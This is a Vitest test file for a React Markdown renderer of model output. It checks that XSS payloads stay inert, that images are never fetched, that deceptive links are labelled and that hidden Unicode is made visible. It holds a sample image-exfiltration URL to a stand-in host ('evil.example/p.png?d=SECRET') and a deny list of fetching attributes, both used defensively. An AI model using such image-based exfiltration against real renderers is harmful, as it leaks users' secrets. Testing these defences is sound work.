import { act, type ReactNode } from 'react'
import { createRoot } from 'react-dom/client'
import { afterEach, expect, it, vi } from 'vitest'
import { Markdown } from './Markdown'
import { xssCorpus } from '../testing/xssCorpus'

Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true })

const taken: (() => Promise<void>)[] = []
afterEach(async () => {
  for (const takeAway of taken.splice(0)) await takeAway()
})

async function show(view: ReactNode): Promise<{ page: HTMLElement; again: (view: ReactNode) => Promise<void> }> {
  const page = document.body.appendChild(document.createElement('div'))
  const root = createRoot(page)
  await act(async () => root.render(view))
  taken.push(async () => {
    await act(async () => root.unmount())
    page.remove()
  })
  return { page, again: (next) => act(async () => root.render(next)) }
}
const nothing = (): void => undefined
const markdown = (text: string, open = false): ReactNode => <Markdown key={text} text={text} open={open} onLink={nothing} />

const allowed = new Set(
  'DIV P SPAN BDI B STRONG EM DEL CODE PRE FIGURE FIGCAPTION BUTTON SVG PATH RECT CIRCLE LINE UL OL LI H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD INPUT'.split(
    ' ',
  ),
)
const fetching = ['src', 'srcset', 'href', 'action', 'formaction', 'data', 'ping', 'poster', 'background', 'style', 'xlink:href']

function wrongIn(page: HTMLElement): readonly string[] {
  return [...page.querySelectorAll('*')].flatMap((element) => [
    ...(allowed.has(element.tagName.toUpperCase()) ? [] : [`element ${element.tagName}`]),
    ...element
      .getAttributeNames()
      .flatMap((name) => (name.startsWith('on') || fetching.includes(name) ? [`${element.tagName} ${name}`] : [])),
  ])
}

it('B01: raw HTML and scripts of a model or tool are text, whatever they are wrapped in', async () => {
  expect(xssCorpus.length).toBeGreaterThan(300)
  const { page } = await show(
    xssCorpus.map((payload) => (
      <section key={payload} data-payload={payload}>
        {markdown(payload)}
      </section>
    )),
  )
  const wrong = [...page.querySelectorAll('section')].flatMap((section) =>
    wrongIn(section).map((what) => [section.dataset['payload'], what]),
  )
  expect(wrong).toEqual([])
  expect(window).not.toHaveProperty('pwned')
})

it('B01: the same holds while a payload arrives piece by piece', async () => {
  const text = xssCorpus.slice(0, 40).join('\n\n')
  const { page, again } = await show(<Markdown text="" open onLink={nothing} />)
  for (let end = 7; end < text.length; end += 97) {
    await again(<Markdown text={text.slice(0, end)} open onLink={nothing} />)
    expect(wrongIn(page)).toEqual([])
  }
})

it('G01: images are named with their host, and never fetched', async () => {
  const asked = vi.spyOn(globalThis, 'fetch')
  const text =
    '![chart](https://evil.example/p.png?d=SECRET) ![two][r] <img src="https://evil.example/x">\n\n[r]: https://evil.example/r.png'
  const { page } = await show(markdown(text))
  expect(page.querySelectorAll('img, image, source, object')).toHaveLength(0)
  expect(page.textContent).toContain('Image: chart from evil.example, not loaded')
  expect(page.textContent).toContain('Image: two from evil.example, not loaded')
  expect(asked).not.toHaveBeenCalled()
  asked.mockRestore()
})

it('G03: a link makes no preview, no prefetch and no favicon', async () => {
  const { page } = await show(markdown('[page](https://evil.example/a) and https://evil.example/b'))
  expect(document.querySelectorAll('link, [ping], iframe')).toHaveLength(0)
  expect(wrongIn(page)).toEqual([])
})

it('G05: a link opens nothing by itself: a click tells its whole address', async () => {
  const clicked: string[] = []
  const { page } = await show(<Markdown text="[the docs](https://docs.example/a?b=1#c)" onLink={(url) => clicked.push(url)} />)
  const link = page.querySelector('[role="link"]')
  expect(link?.hasAttribute('href')).toBe(false)
  await act(async () => link?.dispatchEvent(new MouseEvent('click', { bubbles: true })))
  expect(clicked).toEqual(['https://docs.example/a?b=1#c'])
})

it('G05: a link whose text is another address says where it leads', async () => {
  const { page } = await show(markdown('[https://bank.com](https://evil.example/x)'))
  expect(page.textContent).toContain('(leads to evil.example)')
})

it('shows GFM tables, task lists and code that can be copied', async () => {
  const { page } = await show(markdown('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```sql\nselect 1\n```\n'))
  expect(page.querySelectorAll('td')).toHaveLength(2)
  expect(page.querySelector<HTMLInputElement>('input')?.checked).toBe(true)
  expect(page.querySelector('pre')?.textContent).toBe('select 1')
  expect(page.querySelector('figure button')?.getAttribute('aria-label')).toBe('Copy')
})

it('keeps finished blocks in place while more is written', async () => {
  const { page, again } = await show(<Markdown text={'First\n\nSec'} open onLink={nothing} />)
  const first = page.querySelector('p')
  await again(<Markdown text={'First\n\nSecond\n\nThird'} open onLink={nothing} />)
  expect(page.querySelector('p')).toBe(first)
  expect([...page.querySelectorAll('p')].map((each) => each.textContent)).toEqual(['First', 'Second', 'Third'])
})

it('shows a footnote and a definition that nobody refers to', async () => {
  const { page } = await show(markdown('A claim[^1].\n\n[^1]: Its source'))
  expect(page.textContent).toContain('[^1]: Its source')
})

it('F14: draws what hides in the prose of a model, and leaves Persian, Hindi and families as they are written', async () => {
  const text = 'Pay\u202E**bo\u200Bb** [si\u2066te](https://a.example/x) `co\u00ADde`\n\nمی\u200Cخواهم क\u094D\u200Dष 👨\u200D👩\u200D👧\n'
  const { page } = await show(markdown(text))
  const words = page.textContent ?? ''
  for (const part of ['PayU+202E', 'boU+200Bb', 'siU+2066te', 'coU+00ADde']) expect(words).toContain(part)
  expect(words).toContain('می\u200Cخواهم क\u094D\u200Dष 👨\u200D👩\u200D👧')
})
